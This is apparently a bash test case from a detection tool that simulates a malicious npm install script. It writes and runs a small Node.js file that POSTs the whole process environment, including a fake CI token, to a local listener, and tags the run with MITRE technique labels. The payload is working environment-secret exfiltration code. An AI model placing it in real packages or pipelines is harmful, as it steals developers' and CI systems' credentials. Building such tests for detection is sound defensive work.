#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files (CI secrets in the environment); T1041 Exfiltration Over C2 Channel; T1195.002 Supply Chain Compromise
# reproduces: npm packages whose install script posts process.env (the dependency-confusion and typosquat payloads of 2021-2025, Shai-Hulud's harvest of environment secrets): `node index.js` with the upload in the file, nothing on the command line
# expect: environment-sent-to-network ^node(js)?$
# exec-borne: no
#
# The install script is a file of the "package", run by node as npm's
# lifecycle does; its request carries JSON.stringify(process.env).
set -u

command -v node >/dev/null 2>&1 || { echo "node not installed" >&2; exit 77; }

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"
pkg=$(mktemp -d "${BW_ATTACK_TMP:?}/node_modules-XXXXXX")
# An installed package stays on disk after its script ran; the agent,
# which reads records in batches under the default policy, reads the
# script's text when it gets to the exec. (One that deletes itself at
# once can be gone by then: docs/DETECTIONS.md.)
trap 'sleep 2; rm -rf "$pkg"' EXIT

cat >"$pkg/index.js" <<'JS'
const http = require('http');
const target = new URL(process.argv[2]);
const req = http.request({ host: target.hostname, port: target.port, path: '/t', method: 'POST' });
req.on('error', () => {});
req.end(JSON.stringify(process.env));
JS
node "$pkg/index.js" "http://127.0.0.1:${BW_ATTACK_PORT:?}/t"
